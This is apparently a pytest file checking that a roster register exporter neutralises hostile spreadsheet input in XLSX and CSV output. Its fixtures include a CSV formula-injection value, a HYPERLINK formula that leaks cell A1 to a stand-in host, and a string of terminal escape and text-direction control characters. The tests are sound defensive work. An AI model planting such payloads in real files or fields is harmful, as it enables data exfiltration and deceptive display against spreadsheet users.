"""The register exported from drafts that hold what a hostile roster brought.

- openpyxl refuses control characters in a cell (IllegalCharacterError): one draft imported from a roster whose
  name cell held an escape sequence made `coc export register.xlsx` exit 70, with nothing written;
- a CSV cell was quoted only when it held a comma, so `A-1;=HYPERLINK(...)` reached a spreadsheet that splits
  lines at `;` (Excel where the list separator is `;`) as two cells, the second a formula. The file is read back
  with the csv module and each separator, which (like many readers) keeps quoted text together only at the start
  of a field.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from app.forms import Catalog
from app.roster import register
from app.roster.plan import apply_plan, make_plan, read_roster
from app.store import Store
from tests.roster.helpers import WORKDAY, table, worker, write_csv

INJECTED = 'A-1;=HYPERLINK("http://example.invalid/?x="&A1,"Click")\t@SUM(1+1)'
CONTROLS = "Lee\x1b]0;owned\x07\x1b[2J\u202eevil\x9b"


def hostile_drafts(store: Store, catalog: Catalog, tmp_path: Path) -> list[str]:
    rows = [
        worker(0, worker__last_name=CONTROLS),
        worker(1, request__external_ref=INJECTED),
        worker(2, worker__last_name="Smith;-2+3"),
    ]
    plan = make_plan(
        store, *read_roster(write_csv(tmp_path / "r.csv", table(WORKDAY, rows)), catalog), catalog
    )
    return apply_plan(store, plan).ids


def formula_like(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@"))


def test_xlsx_export_of_drafts_with_control_characters(
    store: Store, catalog: Catalog, tmp_path: Path
) -> None:
    ids = hostile_drafts(store, catalog, tmp_path)
    out = tmp_path / "register.xlsx"
    assert register.export(store, out) == 3
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, [c.value for c in line], strict=True)) for line in sheet.iter_rows(min_row=2)]
    assert [r["Request id"] for r in rows] == ids
    worker_cell = rows[0]["Worker"]
    assert worker_cell.startswith("Lee\ufffd]0;owned\ufffd\ufffd[2J\ufffdevil\ufffd")
    assert not any(ch in worker_cell for ch in "\x1b\x07\u202e\x9b")
    assert rows[1]["Reference"] == INJECTED


@pytest.mark.parametrize("split_at", [",", ";", "\t"])
def test_csv_cells_never_become_formulas_whatever_the_separator(
    store: Store, catalog: Catalog, tmp_path: Path, split_at: str
) -> None:
    """Read back as a spreadsheet would with each list separator: no cell is formula-like."""
    hostile_drafts(store, catalog, tmp_path)
    out = tmp_path / "register.csv"
    register.export(store, out)
    text = out.read_bytes().decode("utf-8-sig")
    assert "\x1b" not in text and "\u202e" not in text
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=split_at) for cell in line]
    assert cells and not [c for c in cells if formula_like(c)]
    if split_at == ",":  # read as written: the text is all there, only the formula starts are marked
        ref = next(
            line[0] for line in csv.reader(io.StringIO(text, newline="")) if line[0].startswith("A-1;")
        )
        assert ref == 'A-1;\'=HYPERLINK("http://example.invalid/?x="&A1,"Click")\t\'@SUM(1+1)'
